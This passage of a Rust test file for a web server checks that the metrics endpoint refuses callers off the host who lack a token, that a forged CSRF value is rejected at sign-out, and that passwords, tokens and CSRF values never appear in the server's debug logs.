            ("X-Forwarded-For", "198.51.100.7"),
        ],
    );
    assert_eq!(a.status, 200, "{}", a.body);
}

#[test]
fn metrics_refuse_a_caller_off_the_host_without_the_token() {
    // This host's address on its network, if it has one: the server listens on every
    // address and is called on that one, so the caller is not loopback.
    let Some(ip) = std::net::UdpSocket::bind("0.0.0.0:0")
        .and_then(|s| s.connect("192.0.2.1:9").map(|()| s))
        .and_then(|s| s.local_addr())
        .ok()
        .map(|a| a.ip())
        .filter(|ip| !ip.is_loopback() && !ip.is_unspecified())
    else {
        // As for PostgreSQL (common/test_db.rs): a skip in CI would hide that this ran nowhere.
        if std::env::var("CI").is_ok_and(|v| v == "true") {
            panic!(
                "CI=true and this host has no address but loopback: the check of a caller off \
                 the host cannot run"
            );
        }
        eprintln!("SKIPPED: this host has no address but loopback");
        return;
    };
    let app = spawn_app_with(TestDb::sqlite(), |c| c.bind = "0.0.0.0:0".into());
    let port = app.base.rsplit(':').next().unwrap_or_default().to_string();
    let a = Answer::of(
        agent()
            .get(&format!("http://{ip}:{port}/metrics"))
            .call()
            .unwrap_or_else(|e| panic!("{e}")),
    );
    assert_eq!(a.status, 403, "{}", a.body);
    let a = Answer::of(
        agent()
            .get(&format!("http://{ip}:{port}/healthz"))
            .call()
            .unwrap_or_else(|e| panic!("{e}")),
    );
    assert_eq!(a.status, 200, "the rest answers there");
}

/// Every log line of this test process, at debug level and with spans closed (the request's
/// line), as the server would write them.
fn captured_logs() -> Arc<Mutex<Vec<u8>>> {
    static LOGS: OnceLock<Arc<Mutex<Vec<u8>>>> = OnceLock::new();
    LOGS.get_or_init(|| {
        let logs = Arc::new(Mutex::new(Vec::new()));
        let sink = logs.clone();
        let installed = tracing_subscriber::fmt()
            .with_env_filter(tracing_subscriber::EnvFilter::new("debug"))
            .with_span_events(tracing_subscriber::fmt::format::FmtSpan::CLOSE)
            .with_ansi(false)
            .with_writer(move || Sink(sink.clone()))
            .try_init();
        assert!(installed.is_ok(), "the log capture could not be installed");
        logs
    })
    .clone()
}

struct Sink(Arc<Mutex<Vec<u8>>>);

impl Write for Sink {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        self.0
            .lock()
            .unwrap_or_else(std::sync::PoisonError::into_inner)
            .extend_from_slice(buf);
        Ok(buf.len())
    }
    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

fn logs_hold_no_password_token_or_csrf_value(db: TestDb) {
    let logs = captured_logs();
    let app = spawn_app(db);
    app.create_user("cucvt.a", Role::Member, &[("cuc-vt", false)]);
    app.create_user("vanphong", Role::MinistryOffice, &[]);
    // The API's login, a phone's registration and sync, the dashboard's sign-in, pages, an
    // export, a refused form and the sign-out.
    let mut phone = app.phone("cucvt.a", "cuc-vt");
    let task = phone
        .replica
        .doc()
        .header()
        .task_index("II.1-1")
        .unwrap_or_else(|| panic!("no task"));
    phone.status(task, Status::Done);
    phone.sync(&app);
    let bad = app.login("vanphong", "sai-mật-khẩu-bí-mật");
    assert_eq!(bad.0, 401);
    // The API's login answers a device token; it is sent back on the next login.
    let (status, first) = app.login("vanphong", PASSWORD);
    assert_eq!(status, 200, "{first}");
    let device_token = first["device_token"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    let resp = common::Http::agent()
        .post(&format!("{}/api/v1/auth/login", app.base))
        .send_json(serde_json::json!({
            "username": "vanphong", "password": PASSWORD, "device_token": device_token }))
        .unwrap_or_else(|e| panic!("login: {e}"));
    assert_eq!(resp.status().as_u16(), 200);
    // The dashboard's sign-in sets its device cookie; the browser sends it back on the next.
    let first_sign_in = sign_in_answer(&app, "vanphong", "");
    let device_cookie = pair(
        first_sign_in
            .set_cookie("tf_device")
            .unwrap_or_else(|| panic!("no device cookie")),
    );
    let session = pair(
        sign_in_answer(&app, "vanphong", &device_cookie)
            .set_cookie("tf_token")
            .unwrap_or_else(|| panic!("no session cookie")),
    );
    let token = session.trim_start_matches("tf_token=").to_string();
    let page = get(&app, &session, "/units/cuc-vt");
    let csrf = csrf_field(&page.body);
    assert_eq!(app.fetch(&token, "/exports/tasks.csv").0, 200);
    assert_eq!(
        post_form(&app, "/logout", &[("Cookie", &session)], &[("csrf", "x")]).status,
        403
    );
    assert_eq!(
        post_form(&app, "/logout", &[("Cookie", &session)], &[("csrf", &csrf)]).status,
        303
    );
    let api_token = app.token("vanphong");
    assert_eq!(
        app.get(&api_token, "/api/v1/progress?directive=5-ct-btttt")
            .0,
        200
    );
    drop(app);

    let text = {
        let bytes = logs
            .lock()
            .unwrap_or_else(std::sync::PoisonError::into_inner);
        String::from_utf8_lossy(&bytes).into_owned()
    };
    assert!(
        text.contains("/api/v1/sync") && text.contains("/logout"),
        "the requests were logged: {text:.2000}"
    );
    for (what, secret) in [
        ("the password", PASSWORD),
        ("a wrong password", "sai-mật-khẩu-bí-mật"),
        ("the session token", token.as_str()),
        ("the phone's token", phone.token.as_str()),
        ("an API token", api_token.as_str()),
        ("the sign-out form's CSRF token", csrf.as_str()),
        ("the API login's device token", device_token.as_str()),
        (
            "the dashboard's device cookie",
            device_cookie.trim_start_matches("tf_device="),
        ),
    ] {
        assert!(!secret.is_empty());
        assert!(!text.contains(secret), "{what} is in the logs");
    }
}

on_every_store!(
    sign_out_ends_the_session_at_once_and_only_with_its_token,
    hostile_text_from_phones_is_shown_as_text,
    logs_hold_no_password_token_or_csrf_value,
);
